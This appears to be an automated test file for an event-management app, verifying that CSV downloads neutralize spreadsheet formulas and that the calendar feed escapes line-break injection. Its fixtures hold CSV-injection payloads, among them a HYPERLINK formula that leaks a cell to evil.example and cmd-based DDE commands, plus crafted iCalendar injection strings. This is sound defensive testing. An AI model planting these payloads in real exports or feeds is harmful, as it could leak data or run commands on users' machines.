import { AttendanceRecord, Event, EventRegistration, SurveyResponse, User } from '../../src/db';
import { RegistrationQuestion, SurveyQuestion } from '../../src/db/entities/question.entities';
import { parseCsv } from '../support/csv';
import { Agent, startApp, type TestApp } from '../support/http';
import { agentFor, createPersonaUsers, type PersonaUsers } from '../support/personas';
import { fixtureBuild, fixtureDraft } from '../support/rulesets';
import { databases, insertCharacter, insertEvent, useTestDatabase } from '../support';

/**
 * CSV formula injection and iCalendar injection: whatever a player, an admin or an older version
 * stored in a free text, no cell of any CSV download starts with a character a spreadsheet reads as
 * a formula (= + - @, tab, carriage return; OWASP "CSV Injection"), and no text in the calendar
 * feed starts a line of its own (RFC 5545: a content line ends only at CRLF; lenient readers also
 * end one at a lone CR or LF).
 */

const FORMULAS = {
  equals: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: "-2+3+cmd|' /C calc'!A0",
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  tab: '\t=1+1',
  carriageReturn: '\r=1+1',
};
const FORMULA_START = /^[=+\-@\t\r]/;

describe.each(databases())('CSV and iCalendar injection on %s', (kind) => {
  const db = useTestDatabase(kind);
  let t: TestApp;
  let users: PersonaUsers;
  let admin: Agent;
  let eventId: string;

  beforeAll(async () => {
    t = await startApp(db);
    await t.app.services.gameData.loadSampleIfEmpty();
    users = await createPersonaUsers(db.dataSource);
    admin = await agentFor(t.app, db.dataSource, users, 'admin');
    const ds = db.dataSource;
    // Stored as they are: an older version, an import or a direct edit may have kept what today's inputs would trim.
    await ds.getRepository(User).update({ id: users.player.id }, { firstName: FORMULAS.equals, lastName: FORMULAS.plus });
    const question = await ds
      .getRepository(RegistrationQuestion)
      .save({ questionText: FORMULAS.minus, rolesToAsk: ['pc', 'npc'], answerRequired: false });
    const survey = await ds
      .getRepository(SurveyQuestion)
      .save({ questionText: FORMULAS.at, rolesToAsk: ['pc', 'npc'], answerRequired: false });
    const now = t.clock.now();
    const event = await insertEvent(ds, {
      eventTitle: 'Moot',
      eventStartTime: new Date(now.getTime() - 5 * 86400000),
      eventEndTime: new Date(now.getTime() - 3 * 86400000),
      eventRegistrationQuestions: [question.id],
      eventSurveyQuestions: [survey.id],
    });
    eventId = event.id;
    // The character's build names it with a formula, and buys Highland Endurance, which the draft removes.
    const character = await insertCharacter(ds, users.player.id, {
      savedBuild: fixtureBuild(FORMULAS.tab, 0, 0, 1, 1),
      committedBuild: fixtureBuild(FORMULAS.tab, 0, 0, 1, 1),
      characterXpTotal: 1,
    });
    await ds.getRepository(EventRegistration).save(
      ds.getRepository(EventRegistration).create({
        eventId,
        userId: users.player.id,
        characterId: character.id,
        eventRole: 'pc',
        state: 'accepted',
        registeredAt: now,
        questionAnswers: [{ event_registration_question: question.id, question_answer: FORMULAS.carriageReturn }],
      }),
    );
    await ds.getRepository(AttendanceRecord).save({
      eventId,
      userId: users.player.id,
      characterId: character.id,
      eventRole: 'pc',
      xp: 3,
      xpSequence: 1,
      donationItems: FORMULAS.at,
    });
    await ds
      .getRepository(SurveyResponse)
      .save({ eventId, userId: users.player.id, surveyAnswers: [{ survey_question: survey.id, question_answer: FORMULAS.minus }] });
  });
  afterAll(async () => {
    await t.app.close();
  });

  async function draftId(): Promise<string> {
    const draft = await admin.rest('POST', '/ruleset/drafts', fixtureDraft());
    expect(draft.status).toBe(201);
    return draft.body.data._id;
  }

  const downloads: Array<[string, () => string | Promise<string>]> = [
    ['registrations.csv', () => `/api/v1/exports/events/${eventId}/registrations.csv`],
    ['attendance.csv', () => `/api/v1/exports/events/${eventId}/attendance.csv`],
    ['survey_responses.csv', () => `/api/v1/exports/events/${eventId}/survey_responses.csv`],
    ['characters.csv', () => '/api/v1/exports/characters.csv'],
    ['registration_answers.csv', () => `/api/v1/events/${eventId}/registration_answers.csv`],
    ['ruleset impact.csv', async () => `/api/v1/ruleset/drafts/${await draftId()}/impact.csv`],
  ];

  it.each(downloads)('%s: no cell starts a formula, and the stored texts are there, quoted', async (_name, path) => {
    const answer = await admin.request('GET', await path());
    expect(answer.status).toBe(200);
    const cells = parseCsv(String(answer.body)).flat();
    expect(cells.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
    // the texts are exported (each behind the quote that keeps it text), so the check above saw them
    const neutralized = Object.values(FORMULAS).filter((formula) => cells.includes(`'${formula}`));
    expect(neutralized.length).toBeGreaterThan(0);
  });

  it('the calendar feed keeps every title, place and description inside its own property', async () => {
    const hostile = await insertEvent(db.dataSource, {
      eventTitle: 'Feast\r\nBEGIN:VEVENT\rSUMMARY:Injected, title; here\nX-INJECTED:1',
      eventAddress: 'Hall\rATTENDEE:mailto:evil@example.org',
      eventDescription: 'Line one\nLine two\r\nURL:http://evil.example\rEND:VEVENT',
    });
    const player = await agentFor(t.app, db.dataSource, users, 'player');
    const feedUrl = new URL((await player.rest('POST', '/user/calendar/reset')).body.data.url);
    const feed = await new Agent(t.app).request('GET', feedUrl.pathname);
    expect(feed.status).toBe(200);
    const text = String(feed.body);
    // Lines end with CRLF only: no lone CR or LF anywhere.
    expect(text.replace(/\r\n/g, '').match(/[\r\n]/g)).toBeNull();
    const lines = text.replace(/\r\n[ \t]/g, '').split('\r\n');
    const names = lines.filter((line) => line !== '').map((line) => /^[A-Z-]+/.exec(line)?.[0]);
    expect(names.filter((name) => name === 'X-INJECTED' || name === 'ATTENDEE')).toEqual([]);
    const published = await db.dataSource.getRepository(Event).countBy({ eventPublished: true });
    expect(names.filter((name) => name === 'BEGIN')).toHaveLength(1 + published);
    const event = lines.slice(lines.findIndex((line) => line === `UID:${hostile.id}@localhost`));
    expect(event.find((line) => line.startsWith('SUMMARY:'))).toBe(
      'SUMMARY:Feast\\nBEGIN:VEVENT\\nSUMMARY:Injected\\, title\\; here\\nX-INJECTED:1',
    );
    expect(event.find((line) => line.startsWith('LOCATION:'))).toBe('LOCATION:Hall\\nATTENDEE:mailto:evil@example.org');
    expect(event.find((line) => line.startsWith('DESCRIPTION:'))).toBe(
      'DESCRIPTION:You are not registered.\\n\\nLine one\\nLine two\\nURL:http://evil.example\\nEND:VEVENT',
    );
  });
});
